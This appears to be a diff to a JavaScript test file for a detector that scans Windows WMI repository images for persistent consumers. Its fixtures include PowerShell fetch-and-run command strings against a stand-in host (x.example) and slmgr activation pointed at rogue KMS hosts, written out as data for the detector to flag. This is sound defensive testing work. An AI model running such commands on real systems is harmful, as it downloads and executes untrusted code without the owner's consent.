@@ -23,10 +23,14 @@ const ENCODED = 'ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHcAbwByAGwAZAA=';
 
 windowsRuleTester(wmiConsumer, {
   good: [
-    { name: 'a folder of that name', image: { files: { [PLACE]: { folder: true } } } },
+    { name: 'a folder of that name', image: { files: { [PLACE]: { folder: true, unreadable: 'is a folder' } } } },
     {
       name: 'bytes that are no letters',
       image: { files: { [PLACE]: parts(Buffer.from(activate('203.0.113.7').split('').join('\x9a'), 'latin1')) } },
+    },
+    {
+      name: 'a program and a command apart, with a byte between that is no letter',
+      image: { files: { [PLACE]: parts(Buffer.from('cscript.exe C:\\Corp\\a.vbs \x9aslmgr.vbs /skms 203.0.113.7', 'latin1')) } },
     },
     { name: 'no repository', image: { files: {} } },
     { name: 'classes and the consumers of Windows', image: { files: { [PLACE]: Buffer.concat([CLASSES, OWN]) } } },
@@ -53,6 +57,37 @@ windowsRuleTester(wmiConsumer, {
       policy: { kmsHosts: ['kms.corp.example'] },
       image: { files: { [PLACE]: parts(wide(activate('kms.evil.example'))) } },
       findings: [{ messageId: 'activates', at: at(4), says: /kms\.evil\.example/ }],
+    },
+    ...['\t', '\n', '\r'].map((space) => ({
+      name: `with the space ${JSON.stringify(space)}`,
+      image: { files: { [PLACE]: parts(activate('203.0.113.7').replace(' //b ', space)) } },
+      findings: [{ messageId: 'activates', at: at(4) }],
+    })),
+    {
+      name: 'two bytes a letter, right behind a text of one byte a letter',
+      image: {
+        files: { [PLACE]: Buffer.concat([Buffer.alloc(4), Buffer.from('somewhat'), wide(activate('203.0.113.7')), Buffer.alloc(4)]) },
+      },
+      findings: [{ messageId: 'activates', at: at(12) }],
+    },
+    ...['$a = irm https://x.example/a; iex $a', 'iex (irm https://x.example/a)', 'invoke-expression (iwr https://x.example/a)'].map(
+      (command) => ({
+        name: `a text that is fetched and run: ${command}`,
+        image: { files: { [PLACE]: parts(`powershell -c "${command}"`) } },
+        findings: [{ messageId: 'fetches', at: at(4) }],
+      }),
+    ),
+    {
+      name: 'a repository that cannot be read',
+      image: { files: { [PLACE]: { content: 'x', unreadable: 'is torn' } } },
+      findings: [],
+      unable: 'is torn',
+    },
+    {
+      name: 'more texts than are looked at',
+      image: { files: { [PLACE]: Buffer.alloc(13 * 2_000_001, 'twelveletter\0') } },
+      findings: [],
+      unable: 'holds more texts than are looked at',
     },
     {
       name: 'at an odd place',
